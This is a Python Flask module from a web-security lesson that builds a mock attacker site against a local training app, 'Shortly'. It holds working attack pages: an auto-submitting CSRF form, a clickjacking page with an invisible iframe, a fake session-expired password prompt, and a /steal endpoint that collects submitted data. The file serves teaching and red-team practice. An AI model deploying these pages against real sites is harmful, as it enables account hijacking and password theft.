"""The attacker's site of lesson 06's red team: another origin on loopback (the lesson calls it
http://evil.test:PORT), with the pages an attacker would lure a Shortly user onto.

    evil = create_site("http://shortly.test:5000")   # the Shortly under attack
    /prize?link=ID   a page whose form, sent by its own script, edits link ID of that Shortly (CSRF)
    /frame?link=ID   that Shortly's edit page of link ID in an invisible frame, under a button
                     that the visitor is invited to click (clickjacking)
    /phish           "your session expired, log in again": where an open redirect sends a victim
    /steal           collects whatever a script or a form sends it, in evil.config["STOLEN"]
"""

from __future__ import annotations

from flask import Flask, render_template_string, request

PRIZE = """<!doctype html>
<title>You won!</title>
<h1>Claim your prize</h1>
<form id="claim" method="post" action="{{ shortly }}/{{ link }}/edit">
  <input type="hidden" name="url" value="{{ request.host_url }}phish">
</form>
<script>document.getElementById("claim").submit()</script>
"""

FRAME = """<!doctype html>
<title>Free gift</title>
<button>Click here for your gift</button>
<iframe src="{{ shortly }}/{{ link }}/edit" style="opacity: 0; position: absolute; top: 0"></iframe>
"""

PHISH = """<!doctype html>
<title>Log in | shortly</title>
<h1>shortly</h1>
<p>Your session expired. Please enter your password again.</p>
<form method="post" action="/steal"><input type="password" name="password"></form>
"""


def create_site(shortly: str) -> Flask:
    """The attacker's site, aimed at the Shortly at `shortly` (scheme://host:port)."""
    evil = Flask("attacker_site")
    evil.config["STOLEN"] = []  # what /steal received, one entry per request

    @evil.route("/prize")
    def prize() -> str:
        return render_template_string(PRIZE, shortly=shortly, link=request.args.get("link", "1"))

    @evil.route("/frame")
    def frame() -> str:
        return render_template_string(FRAME, shortly=shortly, link=request.args.get("link", "1"))

    @evil.route("/phish")
    def phish() -> str:
        return PHISH

    @evil.route("/steal", methods=["GET", "POST"])
    def steal() -> str:
        evil.config["STOLEN"].append(request.values.to_dict())
        return "thanks"

    return evil
